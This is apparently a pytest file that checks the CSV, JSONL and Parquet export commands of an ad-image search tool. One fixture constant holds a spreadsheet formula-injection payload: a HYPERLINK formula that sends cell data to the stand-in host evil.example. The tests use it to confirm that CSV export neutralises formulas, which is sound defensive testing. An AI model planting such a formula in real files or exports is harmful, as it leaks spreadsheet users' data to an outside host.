"""`adsearch search|facets --format --out --fields`, run as a user runs them (real subprocesses, the
embedded store, metadata from a CSV file holding a formula)."""

from __future__ import annotations

import csv
import json
import shutil

import pyarrow.parquet as pq
import pytest
from helpers import adsearch

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture(scope="module")
def db(tmp_path_factory, sample_dir, truth, tiny_clip_dir):
    """Four ads ingested with metadata (campaign, year); one campaign is a spreadsheet formula."""
    folder = tmp_path_factory.mktemp("export-ads")
    ads = [a for a in truth if a["brand"] and not a["rotated"] and not a["low_contrast"]][:4]
    names = [a["file"].rsplit("/", 1)[-1] for a in ads]
    for ad in ads:
        shutil.copy(sample_dir / ad["file"], folder)
    meta = tmp_path_factory.mktemp("export-meta") / "meta.csv"
    with meta.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["path", "campaign", "year"])
        campaigns = [EVIL, "-20% off", "spring", "spring"]
        for name, campaign, year in zip(names, campaigns, [2014, 2015, 2016, 2016], strict=True):
            writer.writerow([name, campaign, year])
    env = {"ADSEARCH_DB": str(tmp_path_factory.mktemp("export-db")),
           "ADSEARCH_CLIP_MODEL": str(tiny_clip_dir), "ADSEARCH_WORKERS": "2"}  # fmt: skip
    result = adsearch("ingest", str(folder), "--metadata", str(meta), "--no-progress", env_extra=env)
    assert result.returncode == 0, result.stderr
    listing = json.loads(adsearch("search", "-k", "100", "--json", env_extra=env).stdout)
    return env, ads, {h["id"]: h for h in listing["hits"]}


def read_csv(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_filtered_browse_exports_every_match_with_formulas_neutralised(db, tmp_path):
    env, _, stored = db
    out = tmp_path / "ads.csv"
    result = adsearch("search", "--where", "year<=2015", "--format", "csv", "--out", str(out), env_extra=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"wrote 2 rows (every matching image) as csv to {out}"
    rows = read_csv(out)
    assert {r["year"] for r in rows} == {"2014", "2015"} and {r["id"] for r in rows} <= set(stored)
    assert sorted(r["campaign"] for r in rows) == sorted(["'" + EVIL, "'-20% off"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert {"id", "paths", "ocr_text", "format", "width", "sha256", "year", "campaign"} <= set(rows[0])
    assert "ocr_words" not in rows[0] and "score" not in rows[0]  # heavy fields; no ranking in a browse
    for row in rows:
        assert row["paths"].split(";") == stored[row["id"]]["paths"]


def test_a_ranked_query_exports_its_ranking_with_channel_ranks_to_stdout(db):
    env, ads, _ = db
    query = ads[1]["brand"]
    listing = json.loads(adsearch("search", query, "-k", "1000", "--json", env_extra=env).stdout)
    result = adsearch("search", query, "--format", "jsonl", env_extra=env)
    assert result.returncode == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["id"] for r in rows] == [h["id"] for h in listing["hits"]]
    assert [r["score"] for r in rows] == [h["score"] for h in listing["hits"]]
    for row, hit in zip(rows, listing["hits"], strict=True):
        for channel in ("image", "text", "keywords"):
            expected = hit["channels"].get(channel, {}).get("rank")
            assert row[f"rank_{channel}"] == expected
    assert rows[0]["rank"] == 1 and "campaign" in rows[0]
    assert f"wrote {len(rows)} rows (the top {len(rows)} ranked hits (at most 1000))" in result.stderr


def test_parquet_with_chosen_fields_holds_every_image(db, tmp_path):
    env, _, stored = db
    out = tmp_path / "all.parquet"  # the format from the suffix
    result = adsearch("search", "--out", str(out), "--fields", "campaign,year", env_extra=env)
    assert result.returncode == 0, result.stderr
    table = pq.read_table(out)
    assert table.column_names == ["id", "paths", "ocr_text", "campaign", "year"]
    rows = table.to_pylist()
    assert {r["id"] for r in rows} == set(stored) and len(rows) == len(stored)
    assert EVIL in {r["campaign"] for r in rows}  # parquet is data, not a spreadsheet: kept as is
    assert sorted(r["year"] for r in rows) == [2014, 2015, 2016, 2016]


def test_facet_counts_export(db, tmp_path):
    env, _, _ = db
    counts = json.loads(adsearch("facets", "campaign", "--json", env_extra=env).stdout)
    out = tmp_path / "campaigns.csv"
    result = adsearch("facets", "campaign", "--format", "csv", "--out", str(out), env_extra=env)
    assert result.returncode == 0, result.stderr
    rows = read_csv(out)
    assert [(r["value"].removeprefix("'"), int(r["count"])) for r in rows] == [
        (v["value"], v["count"]) for v in counts["values"]
    ]
    assert ("spring", "2") in [(r["value"], r["count"]) for r in rows]


@pytest.mark.parametrize(
    ("args", "reason"),
    [
        (["search", "--format", "xml"], "unknown export format 'xml': use one of csv, jsonl, parquet"),
        (["search", "--format", "parquet"], "binary format: give a file"),
        (["search", "--out", "/nonexistent-folder/x.csv"], "cannot write in /nonexistent-folder"),
        (["search", "--out", "ads.txt"], "give --format"),
        (["search", "--format", "csv", "--json"], "--json prints a listing"),
        (["search", "--format", "csv", "--fields", "colour"], "unknown field 'colour'"),
        (["search", "--format", "csv", "--fields", "ocr_words"], "unknown field 'ocr_words'"),
        (["search", "--format", "csv", "--fields", "paths"], "'paths' is always exported"),
        (["search", "--format", "csv", "--where", "colour=red"], "unknown field 'colour'"),
        (["facets", "ocr_text", "--format", "csv"], "cannot count values of 'ocr_text'"),
    ],
)
def test_bad_exports_are_one_line_and_exit_2(db, args, reason):
    env, _, _ = db
    result = adsearch(*args, env_extra=env)
    assert result.returncode == 2, (args, result.stdout, result.stderr)
    assert reason in result.stderr and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and result.stdout == ""
